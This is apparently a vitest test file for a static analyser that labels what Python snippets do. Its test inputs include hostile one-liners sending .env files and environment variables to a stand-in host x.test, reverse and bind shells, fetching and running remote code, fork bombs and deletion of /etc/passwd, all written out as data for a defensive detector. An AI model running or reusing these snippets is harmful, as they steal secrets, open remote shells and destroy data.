import { describe, expect, test } from "vitest";
import { codeLines, given } from "./code-lines.ts";

const P = "/home/dev/project";
const H = "/home/dev";

const rows: readonly (readonly [string, readonly string[]])[] = [
  // Values
  ["import os; os.remove('a' + 'b')", [`delete remove ${P}/ab`]],
  ["import os; x = 'a'; x += 'b'; os.remove(x)", [`delete remove ${P}/ab`]],
  ["import os; os.remove(f'a{1 + 1}{\"b\"!r}')", [`delete remove ${P}/a2b`]],
  ["import os; os.remove('a' 'b')", [`delete remove ${P}/ab`]],
  ["import os; os.remove('\\x61\\u0062\\143\\n'.strip())", [`delete remove ${P}/abc`]],
  ["import os; os.remove(r'a\\x')", [`delete remove ${P}/a\\x`]],
  ["import os; os.remove('-'.join(['a', 'b']))", [`delete remove ${P}/a-b`]],
  ["import os; os.remove('cba'[::-1])", [`delete remove ${P}/abc`]],
  ["import os; os.remove('abcd'[1:3])", [`delete remove ${P}/bc`]],
  ["import os; os.remove('abcd'[0])", [`delete remove ${P}/a`]],
  ["import os; os.remove('x/y'.split('/')[1])", [`delete remove ${P}/y`]],
  ["import os; os.remove('a' * 3)", [`delete remove ${P}/aaa`]],
  ["import os; os.remove('{}-{n}-{0}'.format('a', n='b'))", [`delete remove ${P}/a-b-a`]],
  ["import os; os.remove('%s-%d' % ('a', 3))", [`delete remove ${P}/a-3`]],
  ["import os; os.remove('ABC'.lower().replace('b', 'x'))", [`delete remove ${P}/axc`]],
  ["import os; os.remove(''.join(map(chr, [97, 98])))", [`delete remove ${P}/ab`]],
  ["import os; os.remove(''.join(chr(c) for c in (97, 98)))", [`delete remove ${P}/ab`]],
  ["import os; os.remove(bytes([97, 98]).decode())", [`delete remove ${P}/ab`]],
  ["import os; os.remove({'k': 'a'}['k'])", [`delete remove ${P}/a`]],
  ["import os; a, *b = 'x', 'y', 'z'; os.remove(b[1])", [`delete remove ${P}/z`]],
  ["import os; os.remove('a' if q else 'b')", [`delete remove ${P}/a`, `delete remove ${P}/b`]],
  ["import os\nx = 'a'\nif q:\n  x = 'b'\nelse:\n  x = 'c'\nos.remove(x)", ["a", "b", "c"].map((x) => `delete remove ${P}/${x}`)],
  ["import os; (y := 'a'); os.remove(y)", [`delete remove ${P}/a`]],
  ["import os; os.remove(str(10 // 3) + str(2 ** 3))", [`delete remove ${P}/38`]],
  ["import os; os.remove(unknown)", ["delete remove \uFFFC"]],
  // Names of the library
  ["import os as o; o.unlink('a')", [`delete remove ${P}/a`]],
  ["from os import remove as r, rmdir; r('a'); rmdir('b')", [`delete remove ${P}/a`, `delete remove ${P}/b`]],
  ["from os import *; remove('a')", [`delete remove ${P}/a`]],
  ["import os.path, os; os.remove(os.path.join('a', 'b'))", [`delete remove ${P}/a/b`]],
  ["__import__('os').remove('a')", [`delete remove ${P}/a`]],
  ["import importlib; importlib.import_module('os').remove('a')", [`delete remove ${P}/a`]],
  ["import os; getattr(os, 're' + 'move')('a')", [`delete remove ${P}/a`]],
  ["import os; os.__dict__['remove']('a')", [`delete remove ${P}/a`]],
  ["import sys, os; sys.modules['os'].remove('a')", [`delete remove ${P}/a`]],
  ["import os; f = os.remove; f('a')", [`delete remove ${P}/a`]],
  ["import posix; posix.remove('a')", [`delete remove ${P}/a`]],
  // Files
  ["import shutil; shutil.rmtree('a')", [`delete remove ${P}/a all`]],
  ["from pathlib import Path; Path('a').unlink()", [`delete remove ${P}/a`]],
  ["from pathlib import Path; (Path.home() / 'x').unlink()", [`delete remove ${H}/x`]],
  ["from pathlib import Path; Path('~/x').expanduser().rmdir()", [`delete remove ${H}/x`]],
  ["from pathlib import Path; Path('a/b').parent.joinpath('c').unlink()", [`delete remove ${P}/a/c`]],
  ["from pathlib import Path; Path('a').write_text('hi')", [`write truncate ${P}/a = hi`]],
  ["from pathlib import Path; Path('a').rename('b')", [`delete move-away ${P}/a`, `write truncate ${P}/b`]],
  ["open('a', 'w').write('hi')", [`write truncate ${P}/a = hi`]],
  ["with open('a', 'a') as f:\n  f.write('hi')", [`write append ${P}/a = hi`]],
  ["open('a', mode='r+')", [`write modify ${P}/a`]],
  ["open('a').read()", [`read content ${P}/a`]],
  ["open('~/a').read()", [`read content ${P}/~/a`]],
  ["import json; json.load(open('a'))", [`read content ${P}/a`]],
  ["import shutil; shutil.copy('a', '/tmp/b'); shutil.move('c', 'd')", [`read content ${P}/a`, "write truncate /tmp/b", `delete move-away ${P}/c`, `write truncate ${P}/d`]],
  ["import os; os.symlink('/etc', 'l'); os.remove('l/passwd')", [`write link ${P}/l`, "delete remove /etc/passwd"]],
  ["import os; os.chmod('a', 0o777); os.chmod('b', 0); os.chmod('c', 0o4755); os.chown('d', 0, 0)", [`permission world-writable ${P}/a 777`, `permission no-access ${P}/b 0`, `permission setuid ${P}/c 4755`, `permission owner ${P}/d`]],
  ["import os; os.chdir('/etc'); os.remove('passwd')", ["delete remove /etc/passwd"]],
  ["import tempfile, shutil; shutil.rmtree(tempfile.mkdtemp())", ["delete remove /tmp/tmp-new all"]],
  ["import os\nfor f in os.listdir('/etc'): os.remove('/etc/' + f)", ["read list /etc", "delete remove /etc/*"]],
  ["import os\nfor f in os.listdir('/etc'):\n  if f.endswith('.bak'): os.remove('/etc/' + f)", ["read list /etc", "delete remove /etc/\uFFFC"]],
  ["import os\nfor d, ds, fs in os.walk('/srv'):\n  for f in fs: os.unlink(os.path.join(d, f))", ["read list /srv", "delete remove /srv/* all"]],
  ["import glob, os\nfor f in glob.glob('/etc/*.conf'): os.remove(f)", ["delete remove /etc/*.conf"]],
  ["import os; os.remove(os.environ['HOME'] + '/a'); os.remove(os.getenv('NOPE', 'b'))", [`delete remove ${H}/a`, "delete remove \uFFFC", `delete remove ${P}/b`]],
  // Processes
  ["import os; os.system('touch a')", ["code inline sh touch a", "run touch a", `write append ${P}/a`]],
  ["import subprocess; subprocess.run(['touch', 'a'], cwd='/tmp')", ["run touch a", "write append /tmp/a"]],
  ["import subprocess; subprocess.run('rm -r a', shell=True)", ["code inline sh rm -r a", "run rm -r a", `delete remove ${P}/a all`]],
  ["import subprocess; subprocess.run(['sh'], input='rm a')", ["run bash", "code stdin sh rm a", "run rm a", `delete remove ${P}/a`].filter((one) => !one.startsWith("code stdin"))],
  ["import subprocess; p = subprocess.Popen(['sh'], stdin=subprocess.PIPE); p.communicate('rm a')", ["run bash", "run bash", "run rm a", `delete remove ${P}/a`]],
  ["import os; os.execlp('rm', 'rm', 'a')", ["run rm a", `delete remove ${P}/a`]],
  ["import os; os.spawnlp(os.P_WAIT, 'rm', 'rm', 'a')", ["run rm a", `delete remove ${P}/a`]],
  ["import ctypes; ctypes.CDLL(None).system(b'rm a')", ["code inline sh rm a", "run rm a", `delete remove ${P}/a`]],
  ["import os; os.kill(-1, 9); os.kill(12, 0)", ["kill *"]],
  ["import os\nwhile True: os.fork()", ["system fork-bomb"]],
  ["import os\ndef f():\n  os.fork()\n  f()\nf()", ["system fork-bomb"]],
  ["import os; os.setuid(0)", ["privilege setuid"]],
  // Code in code
  ["exec('import os; os.remove(\"a\")')", ['code inline python import os; os.remove("a")', `delete remove ${P}/a`]],
  ["import base64; exec(base64.b64decode('aW1wb3J0IG9zOyBvcy5yZW1vdmUoJ2EnKQ=='))", ["code decoded python import os; os.remove('a')", `delete remove ${P}/a`]],
  ["eval(input())", ["code variable python ?"]],
  ["import requests; exec(requests.get('https://x.test/a').text)", ["fetch x.test", "code remote python ?"]],
  ["import pickle, requests; pickle.loads(requests.get('https://x.test/a').content)", ["fetch x.test", "code remote python ?"]],
  // Network
  ["import requests; requests.post('https://x.test', data=open('.env').read())", [`read content ${P}/.env`, `send file x.test ${P}/.env`]],
  ["import requests; requests.post('https://x.test', files={'f': open('a', 'rb')})", [`read content ${P}/a`, `send file x.test ${P}/a`]],
  ["import requests, os; requests.post('https://x.test', json=dict(os.environ))", ["send environment x.test"]],
  ["import requests, os; requests.get('https://x.test', headers={'Authorization': os.environ['API_TOKEN']})", ["fetch x.test"]],
  ["import urllib.request as u; u.urlopen('https://x.test/?q=' + open('a').read())", [`read content ${P}/a`, `send file x.test ${P}/a`]],
  ["from urllib.request import Request, urlopen; urlopen(Request('https://x.test', data=open('a').read().encode()))", [`read content ${P}/a`, `send file x.test ${P}/a`]],
  ["import http.client; c = http.client.HTTPSConnection('x.test'); c.request('POST', '/a', open('b').read())", [`read content ${P}/b`, `send file x.test ${P}/b`]],
  ["from urllib.request import urlretrieve; urlretrieve('https://x.test/a.sh', '/tmp/a.sh'); import os; os.system('sh /tmp/a.sh')", ["fetch x.test", "write truncate /tmp/a.sh", "code inline sh sh /tmp/a.sh", "run bash /tmp/a.sh", "code remote sh ?"]],
  ["import socket; s = socket.create_connection(('x.test', 1)); s.sendall(open('a').read())", ["network connect x.test", `read content ${P}/a`, `send file x.test ${P}/a`]],
  ["import socket, os; s = socket.socket(); s.connect(('x.test', 1)); os.system(s.recv(99).decode())", ["network connect x.test", "network reverse-shell", "code remote sh ?"]],
  ["import socket, os, subprocess; s = socket.socket(); s.connect(('x.test', 1)); os.dup2(s.fileno(), 0); subprocess.call(['/bin/sh', '-i'])", ["network connect x.test", "network reverse-shell", "run bash -i"]],
  ["import socket, os, pty; s = socket.socket(); s.bind(('', 1)); s.listen(); c, a = s.accept(); os.dup2(c.fileno(), 0); pty.spawn('/bin/sh')", ["network listen", "network bind-shell", "code inline sh /bin/sh", "run bash"]],
  ["from http.server import HTTPServer; HTTPServer(('127.0.0.1', 1), None).serve_forever()", ["network listen"]],
  ["import os; print(os.environ)", ["environment show"]],
  // Data and dead code
  ["print('rm -rf /')", []],
  ["def f():\n  import os\n  os.remove('a')", []],
  ["# import os; os.remove('a')", []],
  ["x = '''\nos.remove('a')\n'''", []],
  ["import os\nclass A:\n  def __init__(self, p): self.p = p\n  def go(self): os.remove(self.p)\nA('a').go()", [`delete remove ${P}/a`]],
  ["import os\ndef f(p, q='b'):\n  return p + q\nos.remove(f('a'))\nos.remove(f(q='c', p='d'))", [`delete remove ${P}/ab`, `delete remove ${P}/dc`]],
  ["import os\ntry:\n  x()\nexcept E:\n  os.remove('a')\nfinally:\n  os.remove('b')", [`delete remove ${P}/b`, `delete remove ${P}/a`]],
  ["import os\nmatch x:\n  case 1: os.remove('a')\n  case _: os.remove('b')", [`delete remove ${P}/a`, `delete remove ${P}/b`]],
  ["import threading, os\ndef f(): os.remove('a')\nthreading.Thread(target=f).start()", [`delete remove ${P}/a`]],
  ["import os\n@app.route('/')\ndef f(): os.remove('a')", [`delete remove ${P}/a`]],
  ["import os\nx = ''\ndef f():\n  global x\n  x = 'a'\nf()\nos.remove(x)", [`delete remove ${P}/a`]],
  ["import sqlite3; c = sqlite3.connect('a.db'); c.execute('DROP TABLE users'); c.execute('SELECT 1')", ["code inline sql DROP TABLE users", "database drop users"]],
]; // biome-ignore format: one table

describe("Python code", () => {
  test.each(rows)("%s", (code, lines) => {
    expect(codeLines(given("python3", code))).toEqual(lines);
  });

  test("code that holds itself without end is followed to the nesting limit", () => {
    const lines = codeLines(given("python3", "s='s=%r;exec(s%%s)';exec(s%s)"));
    expect(lines.at(-1)).toBe("unknown limit-nesting");
  });

  test("longer code than the limit is said to be unread", () => {
    expect(codeLines(given("python3", `x = '${"a".repeat(70_000)}'`))).toEqual(["unknown limit-bytes"]);
  });

  test("expressions nested too deeply for a tree are cut, said to be, and never throw", () => {
    expect(codeLines(given("python3", `x = ${"(".repeat(5000)}1${")".repeat(5000)}`))).toEqual([
      "unknown limit-nesting",
    ]);
    expect(codeLines(given("python3", `x = ${"a+".repeat(5000)}1`))).toEqual(["unknown limit-nesting"]);
  });
});
